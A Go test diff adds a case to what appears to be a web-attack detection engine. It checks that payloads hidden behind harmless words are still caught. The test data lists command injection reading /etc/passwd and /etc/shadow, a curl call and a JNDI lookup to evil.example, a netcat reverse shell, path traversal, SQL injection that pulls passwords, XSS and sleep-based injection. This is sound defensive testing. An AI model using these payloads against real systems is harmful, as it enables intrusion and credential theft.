@@ -125,6 +125,24 @@ func TestCheck(t *testing.T) {
 	}
 }
 
+// TestPadded sends attacks behind words: what excuses a text must not excuse
+// what follows it.
+func TestPadded(t *testing.T) {
+	e := engine(t, inspect.Options{})
+	var s inspect.Scratch
+	for _, v := range []string{
+		"one two three four | whoami", "one two three four; cat /etc/passwd", "one two three four\ncat /etc/passwd", "one two three four $(curl evil.example)", "one two three four && nc -e /bin/sh 192.0.2.1 80",
+		"see the file ../../../../etc/passwd", "one two three ../../../../../../x", "we say '=' here ' or 1=1-- ", "a = b, c = d, e = f' union select password from users-- ", "one two three four' or 'a'='a",
+		"one two `three` `four` <script>alert(1)</script>", "one two `three`;alert`1`//", "I'd go; w'h'o'am'i", "I'd go; cat /etc/passwd", "(a|b) one | cat /etc/shadow", "{a|b}|id", "# one\n1 union select 1,2-- ", "(12) or 1=1-- (#12)",
+		"$(file x) $(id)", "one two three four `x` ${jndi:ldap://evil.example/a}", "1 or 1=1 # one\n or 2=2 # two", "sleep (5)", "12) and sleep (9)-- one two three",
+	} {
+		s.Begin()
+		if f := e.CheckString(v, sallyport.InQuery, &s); !f.Hit() {
+			t.Errorf("%q is spared", v)
+		}
+	}
+}
+
 // TestForms sends attacks through the encodings that an upstream may undo.
 func TestForms(t *testing.T) {
 	e := engine(t, inspect.Options{})
